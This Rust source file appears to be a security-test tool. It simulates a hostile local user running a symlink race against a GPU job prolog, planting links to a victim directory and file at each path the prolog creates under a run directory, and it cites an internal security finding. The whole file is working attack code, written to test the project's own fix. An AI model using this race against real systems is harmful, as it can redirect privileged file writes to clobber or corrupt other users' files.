//! A hostile local user's symlink spinner, for the security tests (SECURITY.md, finding 2
//! of issue 11). Run as an unprivileged account, it plants links to a victim at every name
//! the MPS prolog of jobs FIRST..=LAST makes under RUN_DIR (`job-N/gpuK`, its `pipe` and
//! `log`, the control program's start log), as fast as it can, until killed. Prints each
//! link it planted.
//!
//! ```text
//! colloc-sec-spinner RUN_DIR FIRST LAST VICTIM_DIR VICTIM_FILE
//! ```

use std::os::unix::fs::symlink;
use std::path::PathBuf;
use std::time::Duration;

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let (Some(run), Some(first), Some(last), Some(victim_dir), Some(victim_file)) = (
        args.first().map(PathBuf::from),
        args.get(1).and_then(|a| a.parse::<u32>().ok()),
        args.get(2).and_then(|a| a.parse::<u32>().ok()),
        args.get(3).map(PathBuf::from),
        args.get(4).map(PathBuf::from),
    ) else {
        eprintln!("usage: colloc-sec-spinner RUN_DIR FIRST LAST VICTIM_DIR VICTIM_FILE");
        std::process::exit(2);
    };
    loop {
        let mut busy = false;
        for id in first..=last {
            let job = run.join(format!("job-{id}"));
            if std::fs::symlink_metadata(&job).is_err() {
                continue;
            }
            busy = true;
            // A prolog is making this job's tree: hammer its names.
            for _ in 0..500 {
                for k in 0..4 {
                    let gpu = job.join(format!("gpu{k}"));
                    let mut targets = vec![(gpu.clone(), &victim_dir)];
                    for leaf in ["pipe", "log"] {
                        targets.push((gpu.join(leaf), &victim_dir));
                    }
                    targets.push((gpu.join("log/colloc-control-start.log"), &victim_file));
                    for (at, to) in targets {
                        if symlink(to, &at).is_ok() {
                            println!("planted {} -> {}", at.display(), to.display());
                        }
                    }
                }
            }
        }
        if !busy {
            std::thread::sleep(Duration::from_micros(200));
        }
    }
}
